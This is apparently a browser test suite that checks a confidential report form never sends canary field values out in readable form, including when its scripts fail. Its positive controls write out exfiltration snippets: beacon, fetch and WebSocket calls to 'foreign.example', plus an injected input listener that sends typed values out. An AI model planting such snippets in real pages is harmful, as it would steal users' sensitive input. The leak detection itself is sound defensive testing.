import type { Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { alertAnswers, fullAnswers } from '../../report/answers.ts';
import { fileSchema } from '../../report/evidence.ts';
import { eventually } from '../eventually.ts';
import { type BrowserKind, engineOf, type Started, startBrowser } from '../journeys/browser.ts';
import { sendFiles } from '../journeys/choosing.ts';
import { send } from '../journeys/filling.ts';
import { siteOfWorker } from '../journeys/site-of-worker.ts';
import { fieldsOf } from '../report/schema-fields.ts';
import { canaries, chooseCanaries, chosen, fillWithCanaries, pressEverything } from './canaries.ts';
import { contentsOf, findCanary, findIn } from './find-canary.ts';
import { type Fate, ofTheBrowser, RecordingProxy } from './recording-proxy.ts';

const site = siteOfWorker();
const needles = [...canaries, ...chosen];

/** Every way in which a page can fail to become ready, by what happens to one answer; a page hears of a script only that it did not come. */
const fates: readonly Fate[] = ['hold', 'abort', 'error'];
const fatesOfScript = fates.slice(0, 2);
const scripts: readonly [string, RegExp][] = [
  ['report script', /\/assets\/report-/],
  ['worker', /\/assets\/seal-/],
  ['libsodium', /\/assets\/sodium-/],
  ['light engine', /\/assets\/light-/],
  ['exit script and country lists', /\/assets\/(?:exit|countries)-/],
];
const keyring: typeof scripts = [
  ['keyring', /\/keyring\.json$/],
  ['signature', /\/keyring\.json\.minisig$/],
];

const failing: readonly [string, (path: string) => Fate][] = [
  ...[...scripts, ...keyring].flatMap(([name, pattern], at) =>
    (at < scripts.length ? fatesOfScript : fates).map((fate): [string, (path: string) => Fate] => [
      `${name}: ${fate}`,
      (path) => (pattern.test(path) ? fate : 'pass'),
    ]),
  ),
  [
    'a worker that throws',
    (path) =>
      /\/assets\/seal-/.test(path)
        ? { body: 'throw new Error("broken")', headers: { 'Content-Type': 'text/javascript' } }
        : 'pass',
  ],
  [
    'a libsodium that throws',
    (path) =>
      /\/assets\/sodium-/.test(path)
        ? { body: 'throw new Error("broken")', headers: { 'Content-Type': 'text/javascript' } }
        : 'pass',
  ],
  [
    'a keyring that is not signed',
    (path) => (path === '/keyring.json' ? { change: (body) => body.replace('"serial": 1', '"serial": 2') } : 'pass'),
  ],
];

/** The same for what seals and sends files. */
const failingFiles: typeof failing = [
  ['script of the list', /\/assets\/evidence-/] as const,
  ['script that seals them', /\/assets\/files-/] as const,
  ['place of uploads', /\/uploads/] as const,
].flatMap(([name, pattern]) =>
  fates.map((fate): (typeof failing)[number] => [
    `their ${name}: ${fate}`,
    (path) => (pattern.test(path) ? fate : 'pass'),
  ]),
);
const failingFilesIn: Readonly<Record<BrowserKind, typeof failing>> = {
  chromium: failingFiles.filter(([what]) => !/script.*hold$/.test(what)),
  firefox: failingFiles.filter(([what]) => what.endsWith('abort')),
  'hardened firefox': [],
};

/** What a page says of a file without being told. */
const told = /^(name|type|size|sha256Original|hiddenData)$/;

/** Why WebAssembly would not start in the worker: its response without the word that allows it. */
const withoutWasm = (path: string): Fate =>
  /\/assets\/seal-/.test(path) ? { change: (body) => `delete self.WebAssembly;${body}` } : 'pass';

/** What can differ in another browser: whether an answer is refused or never comes, the page cannot know. */
const failingIn: Readonly<Record<BrowserKind, typeof failing>> = {
  chromium: failing,
  firefox: failing.filter(([what]) => !/: (hold|error)$/.test(what)),
  // Firefox without WebAssembly and JIT.
  'hardened firefox': failing.filter(([what]) => /^a? ?(worker|libsodium|light engine)(: abort| that)/.test(what)),
};

/**
 * In one browser: fills every field with canaries, lets everything fail that can, and looks for them on every line out.
 * The whole matrix is Chromium's.
 */
export function noCanaryLeaves(kind: BrowserKind): void {
  let proxy: RecordingProxy;
  let started: Started;

  function startAll(isWhole: boolean): void {
    beforeAll(async () => {
      proxy = new RecordingProxy(site.origin);
      started = await startBrowser(kind, { proxyPort: await proxy.listen(), isUnwatched: true, isWhole });
    });
    afterAll(async () => {
      await started.end();
      await proxy.close();
    });
  }

  /**
   * Opens the form under a fate, fills it, presses everything, and gives the canaries that left.
   * @param options.isWorking whether the page becomes ready all the same.
   */
  async function leaksUnder(
    fatesOf: (path: string) => Fate,
    act: (page: Page, filled: readonly string[]) => Promise<void> = pressEverything,
    { path = '/en/report', isWorking = false } = {},
  ): Promise<string[]> {
    proxy.begin(fatesOf);
    const page = await started.newPage();
    page.on('dialog', (dialog) => void dialog.accept().catch(() => {}));
    try {
      await page.goto(`${site.origin}${path}`, { waitUntil: 'domcontentloaded', timeout: 3000 }).catch(() => {});
      await page.waitForSelector('#report');
      // The page gets a moment to become ready or to give up; what it may not do is leak in either case.
      if (isWorking) await page.waitForSelector('html[data-ready]');
      else await page.waitForSelector('html[data-ready], html[data-failed]', { timeout: 2500 }).catch(() => {});
      await act(page, await fillWithCanaries(page));
      await new Promise((resolve) => setTimeout(resolve, 300));
      proxy.release();
      await new Promise((resolve) => setTimeout(resolve, 300));
      return leaks(path);
    } finally {
      await page.close({ runBeforeUnload: false });
    }
  }

  function leaks(path: string): string[] {
    const bytes = proxy.recorded();
    expect(bytes.includes(`${path} HTTP/1.1`)).toBe(true);
    const contents = contentsOf(bytes);
    return [
      ...needles.flatMap((needle) => findIn(contents, needle).map((look) => `${needle} as ${look}`)),
      ...[...proxy.foreignHosts].filter((host) => !ofTheBrowser.test(host)),
    ];
  }

  // All that a browser does by itself, too.
  describe('where everything works', () => {
    startAll(true);

    it('catches a canary by each of six ways out', async () => {
      const word = canaries[0];
      const ways: readonly [string, string][] = [
        [
          'worker fetch',
          `new Worker(URL.createObjectURL(new Blob(["fetch('${site.origin}/w', { method: 'POST', body: '${word}' })"])))`,
        ],
        ['beacon', `navigator.sendBeacon('/b', '${word}')`],
        ['address', `fetch('/u?${word}')`],
        ['header', `fetch('/h', { headers: { 'X-Any': '${word}' } })`],
        ['WebSocket', `new WebSocket('ws://foreign.example/${word}')`],
        ['foreign image', `new Image().src = 'http://foreign.example/${word}.png'`],
      ];
      for (const [way, code] of ways) {
        proxy.begin((path) => (path === '/control' ? { body: `<!doctype html><script>${code}</script>` } : 'pass'));
        const page = await started.newPage();
        await page.goto(`${site.origin}/control`);
        await eventually(() => expect([way, findCanary(proxy.recorded(), word).length > 0]).toEqual([way, true]));
        await page.close();
      }
    });

    it.each([
      ['/en/report', fullAnswers],
      ['/en/alert', alertAnswers],
    ] as const)('sends every field of %s without a readable word', async (path, schema) => {
      const leaked = await leaksUnder(
        () => 'pass',
        async (page, filled) => {
          expect(await page.$eval('html', (html) => html.dataset.engine)).toBe(engineOf[kind]);
          const fields = filled.map((name) =>
            name.replace(/\.\d+(?=\.)/g, '.*').replace(/\.(year|month|day|approx|asWritten)$/, ''),
          );
          for (const { field } of fieldsOf(schema)) expect(fields).toContain(field);
          await send(page);
          await page.waitForSelector('#issued:not([hidden])');
          await pressEverything(page);
        },
        { path, isWorking: true },
      );
      expect(proxy.recorded().includes('/envelopes HTTP/1.1')).toBe(true);
      expect(proxy.recorded().includes('age-encryption.org/v1')).toBe(true);
      expect(leaked).toEqual([]);
    });

    it('sends files, their names and all that is said of them without a readable word', async () => {
      const leaked = await leaksUnder(
        () => 'pass',
        async (page) => {
          await send(page);
          await page.waitForSelector('#evidence:not([hidden])');
          const filled = await chooseCanaries(page);
          const fields = filled.map((name) =>
            name.replace(/^files\.\d+\./, '').replace(/\.(year|month|day|approx|asWritten)$/, ''),
          );
          for (const { field } of fieldsOf(fileSchema)) if (!told.test(field)) expect(fields).toContain(field);
          await sendFiles(page);
        },
        { path: '/en/alert', isWorking: true },
      );
      for (const path of ['/envelopes HTTP/1.1', '/uploads HTTP/1.1', '/uploads/'])
        expect([path, proxy.recorded().includes(path)]).toEqual([path, true]);
      expect(leaked).toEqual([]);
    });
  });

  // What the page does then, in any window.
  describe('where something fails', () => {
    startAll(false);

    it.each(failingFilesIn[kind])('leaks nothing of files with %s', async (_what, fatesOf) => {
      const leaked = await leaksUnder(
        fatesOf,
        async (page) => {
          await send(page);
          await page.waitForSelector('#issued:not([hidden])');
          await page.waitForSelector('#evidence:not([hidden])', { timeout: 2500 }).catch(() => {});
          const isThere = await page.$eval('#evidence', (section) => section.checkVisibility());
          if (isThere) await chooseCanaries(page);
          await pressEverything(page);
        },
        { path: '/en/alert', isWorking: true },
      );
      expect(leaked).toEqual([]);
    });

    it.each(failingIn[kind])('leaks nothing with %s', async (_what, fatesOf) => {
      expect(await leaksUnder(fatesOf)).toEqual([]);
    });

    it('seals with the light engine where WebAssembly does not start, and leaks nothing', async () => {
      const leaked = await leaksUnder(
        withoutWasm,
        async (page) => {
          expect(await page.$eval('html', (html) => html.dataset.engine)).toBe('light');
          await send(page);
          await page.waitForSelector('#issued:not([hidden])');
        },
        { isWorking: true },
      );
      expect(leaked).toEqual([]);
    });

    const noScript = (path: string): Fate => (/\/assets\/report-/.test(path) ? 'abort' : 'pass');
    const page =
      (change: (html: string) => string) =>
      (path: string): Fate =>
        path === '/en/report' ? { change } : noScript(path);
    const slot = '<div id="send"></div>';
    const dialog = '<form id="report" method="dialog"';
    /** The page's HTML with a submit button where the script puts its own. */
    const withButton = (html: string, attributes = ''): string =>
      html.replace(slot, `<div id="send"><button type="submit"${attributes}>Send</button></div>`);

    it('has what the changed pages below change', async () => {
      const html = await (await fetch(`${site.origin}/en/report`)).text();
      expect(html.split(slot)).toHaveLength(2);
      expect(html.split(dialog)).toHaveLength(2);
    });

    it('leaks nothing with a button that submits, since its form is a dialog', async () => {
      expect(await leaksUnder(page((html) => withButton(html)))).toEqual([]);
    });

    const leaky: typeof failing = [
      ['its button posts', page((html) => withButton(html, ' formmethod="post" formaction="/en/report"'))],
      [
        'its button submits and its form is no dialog',
        page((html) => withButton(html).replace(dialog, '<form id="report"')),
      ],
      [
        'a field is copied into an address',
        (path: string): Fate =>
          /\/assets\/report-/.test(path)
            ? {
                change: (code) =>
                  `${code};document.addEventListener('input',(e)=>fetch('/assets/x?'+encodeURIComponent(e.target.value)))`,
              }
            : 'pass',
      ],
    ];
    // That a leak is found at all depends on no browser; one in each shows that it was looked at.
    it.each(kind === 'chromium' ? leaky : leaky.slice(0, 1))(
      'finds the leak of a page that is changed so that %s',
      async (_what, fatesOf) => {
        const leaked = await leaksUnder(fatesOf, async (page) => {
          await pressEverything(page);
          await eventually(() => expect(leaks('/en/report')).not.toEqual([]));
        });
        expect(leaked).not.toEqual([]);
      },
    );
  });
}
